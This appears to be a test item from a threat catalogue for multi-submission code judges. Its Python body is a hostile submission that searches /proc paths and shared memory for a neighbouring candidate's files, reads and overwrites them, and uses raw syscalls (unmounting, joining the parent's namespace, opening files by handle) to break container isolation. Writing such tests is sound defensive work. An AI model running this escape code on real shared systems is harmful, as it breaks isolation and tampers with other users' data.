# number: 45 47 52
# source: threat catalogue G; judges that run several submissions in one container
# tries: reads and changes what a candidate that lives beside it keeps in its scratch and its shared memory
# problem: silu
# expect: crashed
# naive: exempt: it is after other candidates, not after a verdict
import ctypes
import os
import struct

libc, SAY = ctypes.CDLL(None, use_errno=True), "got through: @TOKEN@"
scratch, reached = os.environ["TMPDIR"], []
ROOTS = ["", "/proc/self/root", "/proc/self/cwd/..", "/.kopt/scratch/.."]
ROOTS += [f"/proc/{number}/{way}" for number in range(1, 3000) for way in ("root", "cwd", "task/1/root")]


def look():
    for path in (f"{r}{p}/@SIBLING_NAME@" for r in ROOTS for p in (scratch, "/dev/shm", "/tmp", "")):
        try:
            with open(path, "r+") as file:
                reached.append(file.read())
                file.write("changed")
        except OSError:
            pass


look()
for place in (scratch.encode(), b"/dev/shm", b"/proc"):  # what lies below belongs to all
    libc.syscall(166, place, 2)
    libc.syscall(428, -100, place, 1)
libc.syscall(308, libc.syscall(434, os.getppid(), 0), 0x20000)
for inode in range(1, 400):  # by file handle, whatever is mounted over it
    opened = libc.syscall(304, -100, struct.pack("<IiIII", 12, 1, 0, inode, 0), 0)
    reached += [f"handle {inode}"] if opened >= 0 else []
look()
raise RuntimeError(f"{reached} {SAY if reached else ''}")


def run(x):
    return x
